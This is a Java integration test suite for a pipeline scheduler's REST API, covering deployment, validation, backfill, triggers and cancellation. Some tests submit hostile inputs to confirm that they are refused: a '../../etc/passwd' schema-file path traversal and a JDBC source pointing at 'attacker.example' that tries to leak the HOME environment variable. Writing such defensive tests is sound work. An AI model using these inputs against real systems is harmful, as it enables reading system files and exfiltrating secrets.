package io.conveyor.scheduler.trigger;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.micronaut.web.router.Router;
import org.yaml.snakeyaml.Yaml;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import io.conveyor.control.RunIds;
import io.conveyor.control.TriggerAction;
import io.conveyor.control.TriggerEvent;
import io.conveyor.scheduler.RestApiServers;
import io.conveyor.scheduler.schedule.TriggerRecords;
import io.conveyor.schemas.TopicNames;
import io.conveyor.serde.registry.SchemaRegistryClient;
import io.conveyor.testkit.ConveyorStack;
import io.conveyor.testkit.ConveyorStackExtension;
import io.micronaut.runtime.server.EmbeddedServer;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.StreamSupport;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

@ExtendWith(ConveyorStackExtension.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class SchedulerRestApiTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String TEXT_YAML = "text/yaml";

    private final ConveyorStack stack;
    private final TopicNames topics = new TopicNames(ConveyorStack.uniqueName("rest"));
    private final HttpClient http = HttpClient.newHttpClient();
    private EmbeddedServer server;

    SchedulerRestApiTest(ConveyorStack stack) {
        this.stack = stack;
    }

    @BeforeAll
    void start() {
        stack.createTopics(3, topics.triggers());
        server = RestApiServers.start(stack, topics, Map.of("conveyor.scheduler.backfill.max-runs", 48));
    }

    @AfterAll
    void stop() {
        server.getApplicationContext().close();
    }

    @Test
    void theOpenApiDocumentDescribesEveryRouteOfTheRestApiAndTheSwaggerUiServesItFromTheJar() throws Exception {
        Answer document = get("/swagger/conveyor-scheduler.yml");
        assertThat(document.status()).isEqualTo(200);
        JsonNode openApi = JSON.valueToTree(new Yaml().load(document.body()));
        assertThat(openApi.path("openapi").asText()).startsWith("3.");
        assertThat(openApi.at("/info/title").asText()).isEqualTo("Conveyor scheduler");

        // Every route the controllers declare is in the document, with its method: generated, so it cannot drift.
        Set<String> documented = new TreeSet<>();
        openApi.path("paths").fields().forEachRemaining(path -> path.getValue().fieldNames()
                .forEachRemaining(method -> documented.add(method.toUpperCase(Locale.ROOT) + " " + path.getKey())));
        Set<String> routes = new TreeSet<>();
        // (Micronaut answers HEAD for every GET route by itself.)
        server.getApplicationContext().getBean(Router.class).uriRoutes()
                .filter(route -> !route.getHttpMethodName().equals("HEAD"))
                .filter(route -> route.getUriMatchTemplate().toPathString().startsWith("/pipelines")
                        || route.getUriMatchTemplate().toPathString().startsWith("/runs")
                        || route.getUriMatchTemplate().toPathString().startsWith("/workers"))
                .forEach(route -> routes.add(route.getHttpMethodName() + " "
                        + route.getUriMatchTemplate().toPathString().replaceAll("\\{([a-zA-Z]+)[^}]*}", "{$1}")));
        assertThat(routes).contains("POST /pipelines", "POST /pipelines/{name}/backfill", "POST /runs/{runId}/rerun",
                "DELETE /pipelines/{name}", "GET /workers");
        assertThat(documented).containsAll(routes);

        Answer ui = get("/swagger-ui/index.html");
        assertThat(ui.status()).isEqualTo(200);
        assertThat(ui.body()).contains("/swagger/conveyor-scheduler.yml", "/swagger-ui/res/swagger-ui-bundle.js")
                .doesNotContain("https://", "http://");
        Answer bundle = get("/swagger-ui/res/swagger-ui-bundle.js");
        assertThat(bundle.status()).isEqualTo(200);
        assertThat(bundle.body().length()).isGreaterThan(100_000);
    }

    @Test
    void deployListAndReadAPipelineWithItsNextFireTimes() throws Exception {
        String yaml = pipeline("listed", "0 6 * * *", "Europe/Berlin");

        Answer first = post("/pipelines?file=listed.yaml&deployedBy=carol", TEXT_YAML, yaml);
        Answer again = post("/pipelines?file=listed.yaml", "application/x-yaml", "# unchanged\n" + yaml);
        Answer list = get("/pipelines");
        Answer details = get("/pipelines/listed?next=3");

        assertThat(first.status()).isEqualTo(201);
        assertThat(first.json().path("version").asInt()).isEqualTo(1);
        assertThat(first.json().path("changed").asBoolean()).isTrue();
        assertThat(again.status()).isEqualTo(200);
        assertThat(again.json().path("version").asInt()).isEqualTo(1);
        assertThat(again.json().path("changed").asBoolean()).isFalse();
        assertThat(list.status()).isEqualTo(200);
        assertThat(StreamSupport.stream(list.json().spliterator(), false).map(node -> node.path("name").asText()))
                .contains("listed");
        assertThat(details.status()).isEqualTo(200);
        assertThat(details.json().path("schedule").asText()).isEqualTo("0 6 * * *");
        assertThat(details.json().path("timezone").asText()).isEqualTo("Europe/Berlin");
        assertThat(details.json().path("deployedBy").asText()).isEqualTo("carol");
        assertThat(details.json().path("definition").asText()).isEqualTo(yaml);
        // the task graph the web console draws: one extract task without upstream tasks
        assertThat(details.json().path("graph")).hasSize(1);
        assertThat(details.json().path("graph").get(0).path("id").asText()).isEqualTo("a");
        assertThat(details.json().path("graph").get(0).path("kind").asText()).isEqualTo("extract");
        assertThat(details.json().path("graph").get(0).path("dependsOn")).isEmpty();
        List<Instant> next = instants(details.json().path("nextFireTimes"));
        assertThat(next).hasSize(3).isSorted().doesNotHaveDuplicates();
        assertThat(next).allSatisfy(time -> assertThat(time).isAfter(Instant.now().minusSeconds(5)));
    }

    @Test
    void negativeNextIsRefusedNamingTheParameter() throws Exception {
        deploy(pipeline("peeked", "@hourly", "UTC"));

        Answer answer = get("/pipelines/peeked?next=-1");

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.body()).contains("next");
    }

    @Test
    void unknownPipelineIsNotFound() throws Exception {
        assertThat(get("/pipelines/nosuch").status()).isEqualTo(404);
        assertThat(post("/pipelines/nosuch/runs", "application/json", "{}").status()).isEqualTo(404);
    }

    @Test
    void invalidFileGets422WithEveryProblemAtItsLineAndColumn() throws Exception {
        Answer answer = post("/pipelines?file=bad.yaml", TEXT_YAML, """
                name: bad
                schedule: "0 25 * * *"
                tasks:
                  - id: a
                    kind: sql
                    sql: select 1
                    retries: many
                """);

        assertThat(answer.status()).isEqualTo(422);
        List<String> problems = texts(answer.json().path("problems"));
        assertThat(problems).anySatisfy(problem -> assertThat(problem).startsWith("bad.yaml:2:14: schedule:"));
        assertThat(problems).anySatisfy(problem -> assertThat(problem).startsWith("bad.yaml:7:14: tasks[0].retries:"));
    }

    @Test
    void aSchemaFileReferenceIsRefusedWith422WithoutReadingOrEchoingTheFile(@TempDir Path directory) throws Exception {
        Path secret = Files.writeString(directory.resolve("passwd"), "root:x:0:0:the-secret-line");
        for (String reference : List.of(secret.toString(), "../../etc/passwd")) {
            Answer answer = post("/pipelines?file=" + directory.resolve("snoop.yaml"), TEXT_YAML, """
                    name: snoop
                    tasks:
                      - id: clean
                        kind: transform
                        schema: {file: "%s"}
                    """.formatted(reference));

            assertThat(answer.status()).isEqualTo(422);
            assertThat(texts(answer.json().path("problems"))).singleElement().asString()
                    .contains("tasks[0].schema.file: schema files are not read in a deployed pipeline");
            assertThat(answer.body()).doesNotContain("the-secret-line", "root:");
        }
        assertThat(get("/pipelines/snoop").status()).isEqualTo(404);
    }

    @Test
    void aPasswordEnvOutsideTheAllowListIsRefusedWith422SoNoVariableCanBeExfiltrated() throws Exception {
        Answer answer = post("/pipelines?file=exfiltrate.yaml", TEXT_YAML, """
                name: exfiltrate
                tasks:
                  - id: pull
                    kind: extract
                    source: {type: jdbc, url: "jdbc:postgresql://attacker.example/x", user: me, passwordEnv: HOME, table: t}
                """);

        assertThat(answer.status()).isEqualTo(422);
        assertThat(texts(answer.json().path("problems"))).containsExactly("exfiltrate.yaml:5:94: tasks[0].source.passwordEnv:"
                + " environment variable HOME is not allowed as a secret (allowed: CONVEYOR_SECRET_*, CONVEYOR_*_PASSWORD;"
                + " configure conveyor.scheduler.secret-env-allow)");
        assertThat(get("/pipelines/exfiltrate").status()).isEqualTo(404);
    }

    @Test
    void aLiteralPasswordIsRefusedWith422SoItIsNeverStoredOrServed() throws Exception {
        Answer answer = post("/pipelines?file=clear.yaml", TEXT_YAML, """
                name: clear
                tasks:
                  - id: pull
                    kind: extract
                    source: {type: jdbc, url: "jdbc:postgresql://db/crm", password: hunter2, table: t}
                """);

        assertThat(answer.status()).isEqualTo(422);
        assertThat(texts(answer.json().path("problems"))).singleElement().asString()
                .contains("tasks[0].source.password: a literal password is refused in a deployed pipeline");
        assertThat(answer.body()).doesNotContain("hunter2");
        assertThat(get("/pipelines/clear").status()).isEqualTo(404);
    }

    @Test
    void aRuleNamingAFieldTheSourceLacksGets422WithTheNearestName() throws Exception {
        Answer answer = post("/pipelines?file=incidents.yaml", TEXT_YAML, incidents("""
                      - rename: {from: "Cost Total $", to: cost}
                      - coerce: {field: "Reported Onn", type: date}
                """));

        assertThat(answer.status()).isEqualTo(422);
        assertThat(texts(answer.json().path("problems"))).containsExactly("incidents.yaml:11:25: tasks[1].rules[1].coerce.field: "
                + "unknown field 'Reported Onn' (did you mean 'Reported On'?)");
        assertThat(get("/pipelines/incidents").status()).isEqualTo(404);
    }

    @Test
    void aTransformWithoutSchemaGetsTheInferredSchemaRegisteredOnDeploy() throws Exception {
        Answer answer = post("/pipelines?file=inferred.yaml", TEXT_YAML, incidents("""
                      - rename: {from: "Cost Total $", to: cost}
                      - coerce: {field: cost, type: "decimal(9,2)"}
                      - required: [cost]
                """).replace("name: incidents", "name: inferred"));

        assertThat(answer.status()).isEqualTo(201);
        assertThat(new SchemaRegistryClient(stack.registryUrl()).latest(topics.data("inferred", "clean") + "-value")
                .schema().toString()).isEqualTo("{\"type\":\"record\",\"name\":\"inferred_clean\","
                + "\"namespace\":\"io.conveyor.data\",\"fields\":["
                + "{\"name\":\"Reported_On\",\"type\":[\"null\",\"string\"],\"default\":null},"
                + "{\"name\":\"cost\",\"type\":{\"type\":\"bytes\",\"logicalType\":\"decimal\",\"precision\":9,"
                + "\"scale\":2}}]}");
    }

    /** A CSV source with declared columns and a transform task whose rules start at line 10. */
    private static String incidents(String rules) {
        return """
                name: incidents
                tasks:
                  - id: extract
                    kind: extract
                    source: {type: csv, path: /data/in.csv, columns: ["Cost Total $", "Reported On"]}
                  - id: clean
                    kind: transform
                    dependsOn: [extract]
                    rules:
                """ + rules;
    }

    @Test
    void incompatibleTargetSchemaChangeGets409WithTheRegistrysReasons() throws Exception {
        String compatible = withSchema("typed", "{\"name\": \"id\", \"type\": \"long\"}");
        String breaking = withSchema("typed", "{\"name\": \"id\", \"type\": \"long\"}, {\"name\": \"sku\", \"type\": \"string\"}");
        assertThat(post("/pipelines?file=typed.yaml", TEXT_YAML, compatible).status()).isEqualTo(201);

        Answer answer = post("/pipelines?file=typed.yaml", TEXT_YAML, breaking);

        assertThat(answer.status()).isEqualTo(409);
        JsonNode conflict = answer.json().path("conflicts").path(0);
        assertThat(conflict.path("task").asText()).isEqualTo("clean");
        assertThat(conflict.path("subject").asText()).isEqualTo(topics.data("typed", "clean") + "-value");
        assertThat(texts(conflict.path("reasons"))).anySatisfy(reason -> assertThat(reason).contains("sku"));
        assertThat(get("/pipelines/typed").json().path("version").asInt()).isEqualTo(1);
    }

    @Test
    void backfillPublishesOneTriggerPerFireTimeOfTheRange() throws Exception {
        deploy(pipeline("hourly", "0 */6 * * *", "UTC"));

        Answer answer = post("/pipelines/hourly/backfill", "application/json", """
                {"from": "2026-01-01T00:00:00Z", "to": "2026-01-02T06:00:00Z", "requestedBy": "dave", "priority": 3}""");

        List<Instant> expected = List.of(Instant.parse("2026-01-01T00:00:00Z"), Instant.parse("2026-01-01T06:00:00Z"),
                Instant.parse("2026-01-01T12:00:00Z"), Instant.parse("2026-01-01T18:00:00Z"),
                Instant.parse("2026-01-02T00:00:00Z"), Instant.parse("2026-01-02T06:00:00Z"));
        assertThat(answer.status()).isEqualTo(202);
        assertThat(texts(answer.json().path("runIds"))).containsExactly("hourly@20260101T000000Z", "hourly@20260101T060000Z",
                "hourly@20260101T120000Z", "hourly@20260101T180000Z", "hourly@20260102T000000Z", "hourly@20260102T060000Z");
        List<TriggerEvent> published = triggersOf("hourly");
        assertThat(published).extracting(TriggerEvent::getLogicalTime).containsExactlyElementsOf(expected);
        assertThat(published).allSatisfy(trigger -> {
            assertThat(trigger.getAction()).isEqualTo(TriggerAction.START);
            assertThat(trigger.getRequestedBy()).isEqualTo("dave");
            assertThat(trigger.getPriority()).isEqualTo(3);
            assertThat(trigger.getIdempotencyKey()).isNull();
        });
    }

    @Test
    void backfillBeyondTheBoundOrWithoutARequiredFieldIsRefusedNamingTheField() throws Exception {
        deploy(pipeline("bounded", "0 * * * *", "UTC"));

        Answer tooMany = post("/pipelines/bounded/backfill", "application/json", """
                {"from": "2026-01-01T00:00:00Z", "to": "2026-01-03T00:00:00Z"}""");
        Answer reversed = post("/pipelines/bounded/backfill", "application/json", """
                {"from": "2026-01-03T00:00:00Z", "to": "2026-01-01T00:00:00Z"}""");
        Answer missing = post("/pipelines/bounded/backfill", "application/json", """
                {"to": "2026-01-01T00:00:00Z"}""");

        assertThat(tooMany.status()).isEqualTo(422);
        assertThat(tooMany.json().path("field").asText()).isEqualTo("to");
        assertThat(reversed.status()).isEqualTo(422);
        assertThat(reversed.json().path("field").asText()).isEqualTo("to");
        assertThat(missing.status()).isEqualTo(400);
        assertThat(missing.body()).contains("from");
        assertThat(triggersOf("bounded")).isEmpty();
    }

    @Test
    void manualTriggerWithAnIdempotencyKeyAnswersTheDocumentedRunId() throws Exception {
        deploy(pipeline("manual", "@daily", "UTC").replace("tasks:", "parameters: {region: us}\ntasks:"));

        Answer answer = post("/pipelines/manual/runs", "application/json", """
                {"parameters": {"region": "eu"}, "priority": 7, "idempotencyKey": "abc", "requestedBy": "erin"}""");
        Answer withoutKey = post("/pipelines/manual/runs", "application/json", "{}");

        assertThat(answer.status()).isEqualTo(202);
        assertThat(answer.json().path("runId").asText()).isEqualTo("manual@m-ba7816bf8f01cfea");
        assertThat(withoutKey.status()).isEqualTo(202);
        List<TriggerEvent> published = triggersOf("manual");
        assertThat(published).hasSize(2);
        TriggerEvent keyed = published.get(0);
        assertThat(keyed.getIdempotencyKey()).isEqualTo("abc");
        assertThat(keyed.getParameters()).isEqualTo(Map.of("region", "eu"));
        assertThat(keyed.getPriority()).isEqualTo(7);
        assertThat(keyed.getRequestedBy()).isEqualTo("erin");
        assertThat(keyed.getLogicalTime()).isNull();
        assertThat(RunIds.manual("manual", published.get(1).getIdempotencyKey()))
                .isEqualTo(withoutKey.json().path("runId").asText());
    }

    @Test
    void aTaskOfAKindNoServiceExecutesIsRefusedAtItsKind() throws Exception {
        Answer answer = post("/pipelines?file=report.yaml", TEXT_YAML, """
                name: report
                tasks:
                  - id: refresh
                    kind: sql
                    sql: REFRESH MATERIALIZED VIEW report
                """);

        assertThat(answer.status()).isEqualTo(422);
        assertThat(texts(answer.json().path("problems"))).containsExactly("report.yaml:4:11: tasks[0].kind: no service "
                + "executes tasks of kind sql (executed kinds: extract, transform, load)");
        assertThat(get("/pipelines/report").status()).isEqualTo(404);
    }

    @Test
    void aTriggerNamingAParameterThePipelineDoesNotUseIsRefused() throws Exception {
        deploy("""
                name: parameterised
                parameters: {region: eu}
                tasks:
                  - {id: extract, kind: extract, source: {type: csv, path: "/data/${day}.csv"}}
                """);

        Answer answer = post("/pipelines/parameterised/runs", "application/json", """
                {"parameters": {"day": "2026-01-01", "dya": "2026-01-02"}}""");

        assertThat(answer.status()).isEqualTo(422);
        assertThat(answer.json().path("message").asText())
                .isEqualTo("pipeline 'parameterised' does not use parameter 'dya' (it uses [day, region])");
        assertThat(triggersOf("parameterised")).isEmpty();
    }

    @Test
    void cancelPublishesACancelTriggerForTheRunsPipeline() throws Exception {
        Answer answer = post("/runs/cancelled@20260101T000000Z/cancel", "application/json", """
                {"requestedBy": "frank"}""");
        Answer invalid = post("/runs/not-a-run-id/cancel", "application/json", "{}");

        assertThat(answer.status()).isEqualTo(202);
        assertThat(triggersOf("cancelled")).singleElement().satisfies(trigger -> {
            assertThat(trigger.getAction()).isEqualTo(TriggerAction.CANCEL);
            assertThat(trigger.getRunId()).isEqualTo("cancelled@20260101T000000Z");
            assertThat(trigger.getRequestedBy()).isEqualTo("frank");
        });
        assertThat(invalid.status()).isEqualTo(422);
        assertThat(invalid.json().path("field").asText()).isEqualTo("runId");
    }

    private void deploy(String yaml) throws Exception {
        assertThat(post("/pipelines", TEXT_YAML, yaml).status()).isEqualTo(201);
    }

    private List<TriggerEvent> triggersOf(String pipeline) {
        return TriggerRecords.readAll(stack, topics.triggers()).stream()
                .filter(record -> record.key().equals(pipeline)).map(ConsumerRecord::value).toList();
    }

    private static String pipeline(String name, String schedule, String timezone) {
        return """
                name: %s
                schedule: "%s"
                timezone: %s
                tasks:
                  - {id: a, kind: extract, source: {type: csv, path: /data/in.csv}}
                """.formatted(name, schedule, timezone);
    }

    private static String withSchema(String name, String fields) {
        return """
                name: %s
                tasks:
                  - id: extract
                    kind: extract
                    source: {type: csv, path: /data/in.csv}
                  - id: clean
                    kind: transform
                    dependsOn: [extract]
                    schema: '{"type": "record", "name": "Row", "fields": [%s]}'
                """.formatted(name, fields);
    }

    private Answer get(String path) throws IOException, InterruptedException {
        return send(HttpRequest.newBuilder(uri(path)).GET().build());
    }

    private Answer post(String path, String contentType, String body) throws IOException, InterruptedException {
        return send(HttpRequest.newBuilder(uri(path)).header("Content-Type", contentType)
                .POST(HttpRequest.BodyPublishers.ofString(body)).build());
    }

    private URI uri(String path) {
        return URI.create("http://127.0.0.1:" + server.getPort() + path);
    }

    private Answer send(HttpRequest request) throws IOException, InterruptedException {
        HttpResponse<String> response = http.send(request, HttpResponse.BodyHandlers.ofString());
        return new Answer(response.statusCode(), response.body());
    }

    private static List<String> texts(JsonNode array) {
        List<String> texts = new ArrayList<>();
        array.forEach(node -> texts.add(node.asText()));
        return texts;
    }

    private static List<Instant> instants(JsonNode array) {
        return texts(array).stream().map(Instant::parse).toList();
    }

    private record Answer(int status, String body) {

        JsonNode json() {
            try {
                return JSON.readTree(body);
            } catch (IOException e) {
                throw new AssertionError("not JSON: " + body, e);
            }
        }
    }
}
